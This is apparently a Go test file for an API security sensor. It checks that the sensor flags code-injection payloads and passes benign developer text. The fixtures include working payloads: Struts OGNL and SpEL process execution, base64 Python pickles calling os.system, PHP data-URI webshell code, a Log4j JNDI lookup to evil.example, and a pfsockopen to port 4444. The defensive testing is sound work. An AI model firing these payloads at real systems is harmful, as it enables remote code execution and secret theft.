package tier1

import (
	"regexp"
	"strings"
	"testing"

	"github.com/apisensor/sensor/pipeline/detect/literals"
	"github.com/apisensor/sensor/pipeline/detect/normalize"
)

// Code injection cases: PHP calls of recon and execution functions, PHP
// syntax tricks, Node.js eval-sink probes, React Server Components flight
// references, Ruby command calls and Java serialization magic; and the
// developer prose and snippets that mention the same names without being
// attacks.
func init() {
	attacks = append(attacks,
		// Headers Java frameworks evaluate: Struts S2-045's OGNL in the
		// content type, Spring Cloud Function's SpEL routing expression.
		attackEntry{lH, "content-type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#p.start())}", "java-injection", 0},
		attackEntry{lH, "spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")", "java-injection", 0},
		// Ruby's %x(), open("|cmd"), send(:system); Python reaching a
		// module by name and the one-line import; Node through
		// globalThis, the Function constructor, Deno and Bun; prototype
		// pollution as a JSON text.
		attackEntry{lQ, "q", "%x(id)", "ruby-injection", encURL},
		attackEntry{lJ, "q", "URI.open('|id').read", "ruby-injection", 0},
		attackEntry{lQ, "q", "send(:system,'id')", "ruby-injection", encURL},
		attackEntry{lJ, "q", "Object.const_get(:Kernel).system('id')", "ruby-injection", 0},
		attackEntry{lQ, "q", "getattr(__import__('os'),'popen')('id').read()", "python-injection", encURL},
		attackEntry{lJ, "q", "sys.modules['os'].system('id')", "python-injection", 0},
		attackEntry{lJ, "q", "importlib.import_module('os').system('id')", "python-injection", 0},
		attackEntry{lQ, "q", "1;import os;os.system('id')", "python-injection", encURL},
		attackEntry{lJ, "q", "globalThis.process.env", "node-injection", 0},
		attackEntry{lJ, "q", "this['constructor']['constructor']('return process')()", "node-injection", 0},
		attackEntry{lJ, "q", "(()=>{}).constructor('return process')()", "node-injection", 0},
		attackEntry{lQ, "q", "Deno.run({cmd:['id']})", "node-injection", encURL},
		attackEntry{lQ, "q", "Bun.spawnSync(['id'])", "node-injection", encURL},
		attackEntry{lQ, "q", "';return process.env;//", "node-injection", encURL},
		attackEntry{lJ, "settings", `{"constructor":{"prototype":{"isAdmin":true}}}`, "prototype-pollution", 0},
		// Python 3 pickles (protocols 2 and 4) in base64 that call
		// os.system and subprocess.check_output.
		attackEntry{lC, "session", "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==", "python-injection", 0},
		attackEntry{lQ, "state", "gASVKwAAAAAAAACMCnN1YnByb2Nlc3OUjAxjaGVja19vdXRwdXSUk5RdlIwCaWSUYYWUUpQu", "python-injection", encURL},
		// Protocol 1 (no PROTO, binary strings), and BINUNICODE strings
		// with memo opcodes before STACK_GLOBAL.
		attackEntry{lC, "session", "Y3Bvc2l4CnN5c3RlbQpxAChYAgAAAGlkcQF0cQJScQMu", "python-injection", 0},
		attackEntry{lC, "session", "gARYBQAAAHBvc2l4lFgGAAAAc3lzdGVtlJSTWAIAAABpZIVSLg==", "python-injection", 0},
		// SpEL and OGNL name java.lang's classes without the package;
		// Groovy runs a string or a list.
		attackEntry{lQ, "expr", "T(Runtime).getRuntime().exec('id')", "java-injection", encAll},
		attackEntry{lJ, "expr", "*{T(ProcessBuilder)}", "ssti", 0},
		attackEntry{lQ, "expr", "@Runtime@getRuntime().exec('id')", "java-injection", encURL},
		attackEntry{lJ, "script", "\"id\".execute()", "java-injection", 0},
		attackEntry{lJ, "script", "['sh','-c','id'].execute().text", "java-injection", 0},
		attackEntry{lJ, "script", "new groovy.lang.GroovyShell().evaluate(x)", "java-injection", 0},
		attackEntry{lJ, "script", "(\"i\"+\"d\").execute().text", "java-injection", 0},
		// C# that starts a process, as Roslyn scripting and Dynamic LINQ
		// (CVE-2023-32571) evaluate it.
		attackEntry{lQ, "expr", "System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")", "dotnet-injection", encAll},
		attackEntry{lJ, "expr", "Process.Start(@\"C:\\Windows\\System32\\cmd.exe\", \"/c calc\")", "dotnet-injection", 0},
		attackEntry{lJ, "expr", "new System.Diagnostics.Process{StartInfo=new System.Diagnostics.ProcessStartInfo(\"cmd\",\"/c id\")}.Start()", "dotnet-injection", 0},
		attackEntry{lQ, "filter", "\"\".GetType().Assembly.DefinedTypes.Where(it.Name == \"AppDomain\").First()", "dotnet-injection", encURL},
		attackEntry{lQ, "t", "Type.GetType(\"System.Diagnostics.Process\")", "dotnet-injection", encURL},
		// Jinja's attr filter taking its name from the request.
		attackEntry{lQ, "name", "{{request|attr(request.args.c)}}", "ssti", encAll},
		attackEntry{lJ, "name", "{%set a=request|attr('application')%}{{a}}", "ssti", 0},
		attackEntry{lQ, "name", "{{request|attr([request.args.usc*2,request.args.class,request.args.usc*2]|join)}}", "ssti", encURL},
		// Probes of template engines: Jinja2's string times a number,
		// OGNL, Freemarker's square brackets, Velocity; Log4j with a
		// dotless i that Java upper-cases to I.
		attackEntry{lQ, "name", "{{'7'*7}}", "ssti", encAll},
		attackEntry{lQ, "name", "%{7*7}", "ssti", encAll},
		attackEntry{lJ, "name", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}", "ssti", 0},
		attackEntry{lJ, "name", "[=992*703]", "ssti", 0},
		attackEntry{lQ, "name", "#set($a=992*703)$a", "ssti", encURL},
		attackEntry{lH, "user-agent", "${jnd${upper:ı}:rmi://evil.example/a}", "jndi-lookup", 0},
		// PHP functions no prose spells this way: any call counts, also
		// with a junk prefix or as name=(…).
		attackEntry{lQ, "cb", "call_user_func_array('passthru',array('uname -a'))", "php-injection", encAll},
		attackEntry{lQ, "q", "pfsockopen(\"10.9.8.7\",4444)", "php-injection", encAll},
		// Breaking out of an eval()'d string or statement, then a call
		// and a comment; PHP in a base64 data: URI for include().
		attackEntry{lQ, "q", "';exit(md5('w4p1t1_md5'));//", "php-injection", encAll},
		attackEntry{lJ, "q", "a;die(phpinfo());#", "php-injection", 0},
		// Out of a string argument and the calls around it, then exit;
		// and a block comment.
		attackEntry{lQ, "q", "','')); phpinfo(); exit;/*", "php-injection", encAll},
		// The same breakout inside XML (wfuzz XML.txt): the call is followed
		// by a statement, not by prose.
		attackEntry{lQ, "q", "<name>','')); phpinfo(); exit;/*</name>", "php-injection", encAll},
		attackEntry{lJ, "q", "x phpinfo(); die()", "php-injection", 0},
		// A serialized Java object sent as hex: the stream magic aced0005
		// and a new object's class descriptor, in either case.
		attackEntry{lQ, "data", "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b1", "java-injection", encAll},
		attackEntry{lJ, "data", "ACED00057372001F", "java-injection", 0},
		attackEntry{lJ, "q", "x', 1)); system('id'); //", "php-injection", 0},
		attackEntry{lJ, "q", "                              ';exit(md5('x'));//", "php-injection", 0},
		attackEntry{lJ, "q", "classloader class.module.classLoader.resources.context", "java-injection", 0},
		attackEntry{lQ, "page", "data:;base64,PD9waHAgZWNobyAndzRwMXQxJywnX2V2YWwnOyA/Pg==", "php-injection", encURL},
		attackEntry{lQ, "page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg", "php-injection", encURL},
		attackEntry{lJ, "data", "zzgzinflate(base64_decode('eJzLSM3JyQcABiwCFQ=='))", "php-injection", encAll},
		attackEntry{lQ, "q", "posix_getpwuid(posix_geteuid())", "php-injection", encAll},
		attackEntry{lQ, "q", "get_defined_vars()['_SERVER']", "php-injection", encURL},
		attackEntry{lF, "x", "shell_exec =('ls -la')", "php-injection", encAll},
		attackEntry{lQ, "q", "str_rot13('flfgrz')", "php-injection", encAll},
		// Common-word PHP functions: the call is the whole value.
		attackEntry{lQ, "q", "print_r(scandir('.'))", "php-injection", encAll},
		attackEntry{lQ, "q", "printf(PHP_VERSION)", "php-injection", encAll},
		attackEntry{lQ, "q", "var_dump( )", "php-injection", encAll},
		attackEntry{lP, "3", "/index/unlink($f)", "php-injection", 0},
		attackEntry{lJ, "q", "dirname(__FILE__);", "php-injection", encAll},
		// Variable functions with comments between the subscripts.
		attackEntry{lJ, "q", "$h #note\n['k'] //more\n [0] ('id')", "php-injection", encURL},
		attackEntry{lQ, "q", "$_x /*a*/ [1] (7)", "php-injection", encURL},
		// Complex variable syntax and wrappers.
		attackEntry{lQ, "q", "$ {PHP_OS}", "php-injection", encURL},
		attackEntry{lQ, "q", "${$k}", "php-injection", encURL},
		attackEntry{lQ, "file", "php://filter/convert.base64-encode/resource=config", "php-injection", encAll},
		attackEntry{lQ, "out", "php://memory", "php-injection", encAll},
		attackEntry{lQ, "q", "hello<?", "php-injection", encAll},
		attackEntry{lJ, "q", "('passthru')('id')", "php-injection", encAll},
		attackEntry{lM, "filename", "avatar. phtml", "php-injection", 0},

		// Node.js eval-sink probes.
		attackEntry{lQ, "q", "console.warn(\"x\")", "node-injection", encAll},
		attackEntry{lQ, "q", "console.debug(42);", "node-injection", encAll},
		attackEntry{lJ, "q", "console['error'](process.pid)", "node-injection", encAll},
		attackEntry{lJ, "q", "console.log.apply(null,[7])", "node-injection", encAll},
		attackEntry{lJ, "q", "res.end(JSON.stringify(process.env))", "node-injection", encAll},
		attackEntry{lQ, "q", "process.env.AWS_SECRET_ACCESS_KEY", "node-injection", encAll},
		attackEntry{lJ, "q", "(function(){ return 1 })()", "node-injection", encAll},
		attackEntry{lQ, "q", "while(((1)))", "node-injection", encAll},
		attackEntry{lJ, "code", "require('child_process').execSync('id')", "node-injection", encAll},
		// React Server Components flight references to a constructor or
		// a prototype (CVE-2025-55182).
		attackEntry{lJ, "then", "$3:__proto__:then", "node-injection", 0},
		attackEntry{lJ, "0", "$a:Module:prototype", "node-injection", 0},

		// Ruby command execution.
		attackEntry{lQ, "q", "Kernel.exec(\"id\")", "ruby-injection", encAll},
		attackEntry{lQ, "q", "IO.popen('uname').read", "ruby-injection", encAll},
		attackEntry{lJ, "q", "Open3.capture2('id')", "ruby-injection", encAll},

		// Python: inline imports, sandbox escapes through the dunder
		// chains, exec of an import, a lone os.popen probe, and a
		// protocol-0 pickle loading os.system, base64 as in a cookie.
		attackEntry{lQ, "q", "__import__('os').system('id')", "python-injection", encAll},
		attackEntry{lJ, "expr", "().__class__.__bases__[0].__subclasses__()", "python-injection", encAll},
		attackEntry{lJ, "expr", "f.__globals__['os'].popen('id').read()", "python-injection", encAll},
		attackEntry{lJ, "expr", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "python-injection", 0},
		attackEntry{lQ, "q", "x.__init__.__globals__['sys'].modules", "python-injection", encAll},
		attackEntry{lQ, "calc", "__builtins__.__import__('subprocess')", "python-injection", encAll},
		attackEntry{lJ, "code", "exec(\"import os; os.system('id')\")", "python-injection", encAll},
		attackEntry{lQ, "q", "os.popen('id').read()", "python-injection", encAll},
		attackEntry{lJ, "q", "cos\nsystem\n(S'id'\ntR.", "python-injection", 0},
		attackEntry{lJ, "q", "(cos\nsystem\nS'id'\no.", "python-injection", 0},
		attackEntry{lJ, "q", "(S'id'\nios\nsystem\n.", "python-injection", 0},
		attackEntry{lC, "session", "KGNvcwpzeXN0ZW0KUydpZCcKby4=", "python-injection", 0},
		attackEntry{lC, "session", "KFMnaWQnCmlvcwpzeXN0ZW0KLg==", "python-injection", 0},
		attackEntry{lC, "session", "Y29zCnN5c3RlbQooUydpZCcKdFIu", "python-injection", 0},

		// Java serialization magic at each base64 offset, in a value and
		// as a JSON key.
		attackEntry{lQ, "obj", "{\"state\":\"rO0ABXNyABFqYXZh\"}", "java-injection", encURL},
		attackEntry{lC, "s", "KztAAXNyAB", "java-injection", 0},
		attackEntry{lJ, "Cs7QAFc3IA", "1", "java-injection", 0},
	)
	benign = append(benign,
		// Python that imports and reads, Ruby's open of a file, words.
		corpusEntry{lJ, "code", "import os; os.getenv('HOME')"},
		corpusEntry{lJ, "code", "File.open('notes.txt').read"},
		corpusEntry{lQ, "q", "send to x and open the door"},
		corpusEntry{lQ, "q", "printf(\"%x\", n)"},
		// A pickled dict and a Fernet token (0x80, version 0).
		corpusEntry{lC, "session", "gASVFwAAAAAAAAB9lCiMAWGUSwGMAWKUXZQoSwFLAmV1Lg=="},
		corpusEntry{lC, "token", "gAAAAABh0aK3xYz0bQ9-rWzGfVvJ0u3Q8z2cX9mK4pA1bC7dE6fG5hI4jK3lM2nO1pQ0rS9tU8vW7xY6z"},
		// Java code that runs nothing, a price list, a Markdown link.
		corpusEntry{lJ, "code", "cursor.execute()"},
		corpusEntry{lJ, "code", "System.out.println(Runtime.version())"},
		corpusEntry{lJ, "code", "db.prepare(\"SELECT * FROM t WHERE id=\" + id).execute()"},
		corpusEntry{lJ, "code", "query(\"a\").execute()"},
		corpusEntry{lJ, "note", "Process.Start is how .NET launches a program; see System.Diagnostics.Process"},
		corpusEntry{lJ, "code", "var t = obj.GetType().Name;"},
		corpusEntry{lJ, "template", "{{ page|attr('title') }}"},
		corpusEntry{lJ, "template", "{{ user.name|title }} {{ item|attr(field) }}"},
		corpusEntry{lQ, "q", "%{name} is %{age} years old"},
		corpusEntry{lJ, "note", "[=] means equal in the legend"},
		// Content types as clients send them.
		corpusEntry{lH, "content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
		corpusEntry{lH, "content-type", "application/vnd.api+json; charset=utf-8; profile=\"https://example.com/p\""},
		corpusEntry{lH, "content-type", "application/x-www-form-urlencoded;charset=UTF-8"},
		corpusEntry{lH, "content-type", "application/grpc+proto"},
		corpusEntry{lH, "spring.cloud.function.routing-expression", "headers['type'] == 'order' ? 'orderFn' : 'defaultFn'"},
		// C and Python snippets that call exit or print before a comment,
		// and a base64 data: URI of a picture.
		corpusEntry{lJ, "body", "perror(x); exit(1); // fail hard"},
		corpusEntry{lJ, "body", "os.system('ls -la')  # list files"},
		corpusEntry{lJ, "body", "Use subprocess.run(['ls', '-l']) instead of os.system()"},
		corpusEntry{lJ, "body", "import os\nprint(os.getcwd())"},
		corpusEntry{lJ, "body", "Every module has __name__ and __doc__; classes have __init__ and __repr__"},
		corpusEntry{lJ, "body", "Use importlib.import_module instead of __import__('json')"},
		corpusEntry{lJ, "body", "for cls in object.__subclasses__(): print(cls)"},
		corpusEntry{lJ, "body", "MyClass.__mro__[1] is the parent class"},
		corpusEntry{lJ, "body", "line one\nthe client\nprint\nphotos\n"},
		corpusEntry{lQ, "q", "python eval vs exec"},
		corpusEntry{lQ, "q", "cos(x) + sin(y)"},
		corpusEntry{lJ, "body", "hashlib.md5(data).hexdigest()  # checksum"},
		corpusEntry{lJ, "body", "console.assert(x > 0) // must be positive"},
		corpusEntry{lJ, "note", "Done. md5(file) #checked"},
		corpusEntry{lJ, "body", "a = md5(s); print(a)  # hex digest"},
		corpusEntry{lJ, "avatar", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="},
		// Developer prose and snippets that name the same functions.
		corpusEntry{lJ, "message", "The printf() family formats output"},
		corpusEntry{lJ, "message", "Why does file_exists() return false for a symlink?"},
		corpusEntry{lJ, "message", "var_dump($arr) shows NULL after the loop"},
		corpusEntry{lJ, "message", "What does console.log(typeof null) print?"},
		corpusEntry{lJ, "code", "console.log(JSON.stringify(obj, null, 2))"},
		corpusEntry{lJ, "message", "Use process.env.PORT to pick the port"},
		corpusEntry{lJ, "message", "fn.call(this, arg) sets this inside fn"},
		corpusEntry{lJ, "code", "$(document).ready(function() { init(); });"},
		corpusEntry{lJ, "message", "Stop it with os.Process.Kill() after the timeout"},
		corpusEntry{lJ, "code", "struct child_process cp = CHILD_PROCESS_INIT;"},
		corpusEntry{lJ, "code", "include(FetchContent)"},
		corpusEntry{lJ, "code", "list(APPEND out ${${name}_SOURCES})"},
		corpusEntry{lJ, "message", "prepend ~/bin to $PATH (most distros do)"},
		corpusEntry{lJ, "message", "the git_$sub() helpers parse options"},
		corpusEntry{lJ, "message", "Send the logs to php://stderr in the container"},
		corpusEntry{lJ, "price", "Total: $ {amount}"},
		corpusEntry{lJ, "message", "Ruby's Process module has spawn and wait"},
		corpusEntry{lQ, "q", "sqrt(x) vs exp(x)"},
		corpusEntry{lQ, "q", "mkdir(path)"},
		corpusEntry{lQ, "q", "substr(string, start, length)"},
		corpusEntry{lJ, "message", "I called phpinfo(); and saw nothing"},
		corpusEntry{lJ, "message", "Run phpinfo(); it lists every loaded extension."},
		corpusEntry{lJ, "message", "gzinflate(): data error when reading the body"},
		corpusEntry{lJ, "code", "const port = process.env.PORT || 3000;"},
		corpusEntry{lJ, "code", "function() { return this; }"},
		corpusEntry{lJ, "code", "printf(\"%s\", name); exit(1); // fail"},
		corpusEntry{lJ, "note", "it's; exit(0) now"},
		corpusEntry{lJ, "code", "ok; print_r($x); exit;"},
		corpusEntry{lJ, "code", "done; die(\"error\"); exit;"},
		corpusEntry{lJ, "message", "while(true) in a worker freezes the tab"},
		corpusEntry{lJ, "file", "avatar.php"},
		corpusEntry{lJ, "class", "org.apache.commons.lang3.StringUtils"},
		corpusEntry{lJ, "image", "data:text/plain;base64,SGVsbG8="},
		corpusEntry{lJ, "token", "AbCdEfGhIjKlMnOpQrStUvWxYz012345"},
	)
}

// FuzzCodeiScanners runs the hand-written PHP call and Java magic scanners,
// which index backwards over comments and subscripts, on arbitrary text:
// they must not panic, and what they return is text of the input.
func FuzzCodeiScanners(f *testing.F) {
	for _, s := range []string{
		"$h #c\n['k'] //x\n [0] ('id')", "shell_exec =('id')", "/a/b/substr($x)", "print_r(scandir('.'))",
		"a(b(c(d())))", "]\n#\n[(", "](](", "[x]](", "$f[0123456789012345678901234567890123456789](", "$ {X}", "fopen() wrapper", "\n(", "//\n]()", "{\"KztAA\":1}", "rO0AB",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, m := range []string{phpCall(s), phpWholeCall(s), javaMagic(s)} {
			if !strings.Contains(s, m) && !strings.Contains(strings.TrimSpace(s), m) {
				t.Fatalf("scanner returned %q, not in %q", m, s)
			}
		}
	})
}

// FuzzCodeiGates checks that none of matchCodei's gated expressions
// matches a folded value that its gate (words or literals) turns away.
func FuzzCodeiGates(f *testing.F) {
	for _, s := range []string{
		"T(java.lang.Runtime).getRuntime().exec('id')", "t (java.lang.System).getenv()", "${T(java.lang.Runtime)}",
		"#_memberAccess['allowStaticMethodAccess']=true", "%{(#cmd='id')}", "#context['xwork.MethodAccessor.denyMethodExecution']",
		"Class.forName('java.lang.Runtime')", "x.getClass().forName0", "new ProcessBuilder('id').start()", "xruntime.exec",
		"@java.lang.Runtime@getRuntime()", "org.apache.commons.collections.functors.InvokerTransformer", "_aced0005",
		"javax.script.ScriptEngineManager", "a.getDeclaredMethod('exec')", "$java.io.FileInputStream", "dupont (bay 80)",
		"require('child_process').exec('id')", "console.log(1)", "while(1){}", "Kernel.exec('id')", "IO.popen('id')",
		"__import__('os')", "().__class__.__bases__[0]", "cos\nsystem\n(S'id'", "a.__proto__.x=1", "constructor.prototype",
		"@{[ system 'id' ]}", "qx{id}", "open(F, '| id')", "exec {'/bin/sh'}",
		"x__subclasses__(", "x__globals__[", "xprocess.mainmodule", "xrequire('child_process')", "xconsole.log(1)",
		"xkernel.exec(", "xio.popen(", "xopen3.popen3(", "xos.system('id')", "x__import__('os')", "xeval(compile(",
		"postmanruntime/7.39.0", "runtime\t.exec", " os.popen('id')", "mac os x 14_4",
		"for\n(;;)", "for  (;;)", "ximport('fs')", "$while(1)", "'child_process$", "$process.mainModule", "$1:x:prototype$",
		"eval(String.fromCharCodeX", "global.processing", "shell.  jsp.", "shell.\njsp.", "a.  jsp", "x.__class__.__base__",
		"(S'id'\nios\nsystem\n.", "(cos\nsystem\nS'id'\no.",
		"!!python/object/apply:os.system [\"id\"]", "!!javax.script.ScriptEngineManager [x]", "--- !ruby/object:Gem::Installer",
		`{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`, `<ObjectDataProvider MethodName="Start">`,
		"<sorted-set><dynamic-proxy>", "<java.util.PriorityQueue serialization='custom'>", "<java.lang.ProcessBuilder>",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		// matchCodei reads the folded forms (lower case, tabs as
		// spaces, comments out).
		v := normalize.Normalize(raw, 0, 4096)
		forms(&v, func(s string) bool {
			codeiGatesHold(t, s)
			return false
		})
	})
}

// codeiGatesHold fails t when one of matchCodei's gated expressions
// matches s, a folded form, while its gate is closed.
func codeiGatesHold(t *testing.T, s string) {
	t.Helper()
	words, gates := codeWords(s), literals.Find(codeiGates, s)
	for _, c := range []struct {
		name string
		open bool
		re   *regexp.Regexp
	}{
		{"javaCode", gates&gateJava != 0, javaCode},
		{"nodeCode", words&wordNode != 0 || gates&gateNode != 0, nodeCode},
		{"nodeConsole", words&wordNode != 0 || gates&gateNode != 0, nodeConsole},
		{"rubyCode", words&wordRuby != 0, rubyCode},
		{"pythonCode", gates&gatePython != 0, pythonCode},
		{"pythonOSCall", pythonOSStart(s), pythonOSCall},
		{"protoPollution", gates&gateProto != 0, protoPollution},
		{"perlCode", gates&gatePerl != 0, perlCode},
		{"jspFile", gates&gateJSP != 0, jspFile},
		{"deserGadget", gates&gateDeser != 0, deserGadget},
		{"dotnetCode", gates&gateDotnet != 0, dotnetCode},
	} {
		if m := c.re.FindString(s); !c.open && m != "" {
			t.Fatalf("%s matches %q in %q, which its gate turns away", c.name, m, s)
		}
	}
}

func TestClassLoaderPath(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"class.module.classLoader.resources.context.parent.pipeline.first.pattern", true},
		{"class.classLoader.URLs[0]", true},
		{"CLASS.MODULE.CLASSLOADER.resources", true},
		{"class['classLoader'].resources", true},
		{"module.classLoader", true},
		{"the classloader leaks memory", false},
		{"ClassLoader", false},
		{"java classloader docs", false},
		{"", false},
	}
	for _, tt := range tests {
		if got := classLoaderPath(tt.in) != ""; got != tt.want {
			t.Errorf("classLoaderPath(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}
